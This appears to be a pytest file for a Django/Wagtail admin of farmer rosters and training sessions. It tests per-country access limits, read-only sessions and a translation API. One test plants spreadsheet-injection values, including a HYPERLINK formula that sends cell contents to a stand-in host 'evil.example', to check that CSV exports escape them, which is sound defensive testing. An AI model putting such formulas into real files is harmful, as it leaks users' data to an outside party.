"""Rosters and sessions in the admin: each role sees only its own, sessions are read-only."""

import datetime

import pytest
from django.urls import reverse

from content.factories import UserFactory
from reference import roles
from training_delivery.factories import FarmerFactory, TrainingSessionFactory
from training_delivery.models import Farmer, TrainingSession


def url(model, action, *args):
    return reverse(model.snippet_viewset.get_url_name(action), args=args)


@pytest.fixture
def vietnam_rows(vietnam_group):
    return (
        FarmerFactory(group=vietnam_group, member_code="V-1", name="Nguyen Thi Lan"),
        TrainingSessionFactory(group=vietnam_group, place="Buon Ma Thuot"),
    )


@pytest.fixture
def ghana_platform(client, group):
    user = UserFactory(username="gh", groups=[group.country.national_platform_group])
    client.force_login(user)
    return user


def test_a_platform_lists_only_its_countrys_farmers_and_sessions(
    client, ghana_platform, group, vietnam_rows
):
    TrainingSessionFactory(group=group, place="Kumasi plot")

    farmers = client.get(url(Farmer, "list")).content.decode()
    sessions = client.get(url(TrainingSession, "list")).content.decode()

    assert "M-1" in farmers and "Nguyen Thi Lan" not in farmers
    assert "Ashanti cocoa farmers" in sessions and "Dak Lak" not in sessions


def test_another_countrys_rows_are_not_found(client, ghana_platform, vietnam_rows):
    farmer, session = vietnam_rows

    assert client.get(url(Farmer, "edit", farmer.pk)).status_code == 404
    assert client.get(url(TrainingSession, "inspect", session.pk)).status_code == 404
    assert client.post(url(TrainingSession, "delete", session.pk)).status_code == 404
    assert TrainingSession.objects.filter(pk=session.pk).exists()


def test_sessions_cannot_be_edited_only_deleted_by_their_platform(
    client, ghana_platform, group, django_capture_on_commit_callbacks
):
    session = TrainingSessionFactory(group=group)

    assert client.get(url(TrainingSession, "inspect", session.pk)).status_code == 200
    assert client.get(url(TrainingSession, "edit", session.pk)).status_code in (302, 403, 404)
    client.post(url(TrainingSession, "delete", session.pk))
    assert not TrainingSession.objects.filter(pk=session.pk).exists()


def test_the_committee_reads_sessions_but_not_farmers_names(client, group, vietnam_rows):
    client.force_login(UserFactory(groups=[roles.TECHNICAL_COMMITTEE]))
    assert client.get(url(Farmer, "list")).status_code in (302, 403)
    assert client.get(url(TrainingSession, "list")).status_code == 200


def test_a_farmers_group_cannot_be_moved_to_another_country(
    client, ghana_platform, group, vietnam_group
):
    farmer = group.farmers.get(member_code="M-1")

    response = client.post(
        url(Farmer, "edit", farmer.pk),
        {"group": vietnam_group.pk, "member_code": "M-1", "name": "Moved", "gender": "female"},
    )

    # The group is fixed once a farmer exists: the forged group is ignored.
    assert response.status_code == 302
    farmer.refresh_from_db()
    assert (farmer.group, farmer.name) == (group, "Moved")


def test_the_listings_offer_their_imports_to_the_platform(client, ghana_platform):
    farmers = client.get(url(Farmer, "list")).content.decode()
    sessions = client.get(url(TrainingSession, "list")).content.decode()

    assert reverse("training_delivery_roster_import") in farmers
    assert reverse("training_delivery_paper_import") in sessions


def localize_api(model, pk=None):
    meta = model._meta
    address = f"/admin/localize/api/snippets/{meta.app_label}/{meta.model_name}/"
    return address + (f"{pk}/" if pk else "")


def test_the_translation_editors_api_lists_only_what_the_asker_may_see(
    client, ghana_platform, group, vietnam_rows
):
    farmer, session = vietnam_rows
    TrainingSessionFactory(group=group, place="Kumasi plot")

    farmers = client.get(localize_api(Farmer)).json()
    groups = client.get(localize_api(type(group))).json()

    assert {row["title"] for row in farmers} == {str(f) for f in group.farmers.all()}
    assert [row["id"] for row in groups] == [group.pk]
    assert client.get(localize_api(Farmer, farmer.pk)).status_code == 404
    assert client.get(localize_api(TrainingSession, session.pk)).status_code == 404
    assert client.get(localize_api(type(group), farmer.group_id)).status_code == 404


def test_the_translation_editors_api_shows_the_committee_no_farmer(client, group, vietnam_rows):
    farmer, _ = vietnam_rows
    client.force_login(UserFactory(groups=[roles.TECHNICAL_COMMITTEE]))

    assert client.get(localize_api(Farmer)).json() == []
    assert client.get(localize_api(Farmer, farmer.pk)).status_code == 404


def test_the_translation_editors_api_needs_admin_access(client, group):
    client.force_login(UserFactory())
    response = client.get(localize_api(Farmer))
    assert response.status_code in (302, 403)
    assert "M-1" not in response.content.decode()


def test_csv_downloads_of_groups_and_farmers_hold_no_formula(client, ghana_platform, group):
    group.name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    group.region = "@SUM(A1:A9)"
    group.save()
    # With consent: a name without it is not in the download at all (decision 0023).
    FarmerFactory(
        group=group,
        member_code="+M-9",
        name="-2+3",
        consent_given=True,
        consent_date=datetime.date(2026, 1, 5),
    )

    groups = client.get(url(type(group), "list"), {"export": "csv"})
    farmers = client.get(url(Farmer, "list"), {"export": "csv"})
    groups_csv = b"".join(groups.streaming_content).decode()
    farmers_csv = b"".join(farmers.streaming_content).decode()

    assert "'=HYPERLINK(" in groups_csv and ",=HYPERLINK(" not in groups_csv
    assert "'@SUM(A1:A9)" in groups_csv
    assert "'+M-9" in farmers_csv and "'-2+3" in farmers_csv


def test_the_translation_editors_api_links_a_snippet_whose_admin_has_another_name(
    client, group, superuser
):
    """Countries' admin lives under "modules": the API answered them with a server error."""
    client.force_login(superuser)

    rows = client.get(localize_api(type(group.country))).json()

    assert {row["id"] for row in rows} >= {group.country_id}
    edit = reverse("wagtailsnippets_modules_country:edit", args=[group.country_id])
    assert edit in {row["edit_url"] for row in rows}


def test_the_roster_listing_shows_ticks_not_raw_true(client, ghana_platform, group):
    """Issue 23, point 8: the admin showed "True" and "None"."""
    html = client.get(url(Farmer, "list")).content.decode()
    main = html.split('id="main"', 1)[1]

    assert ">True<" not in main and "True</td>" not in main.replace(" ", "").replace("\n", "")
    assert "icon-success" in main or "w-text-positive" in main or "icon-tick" in main
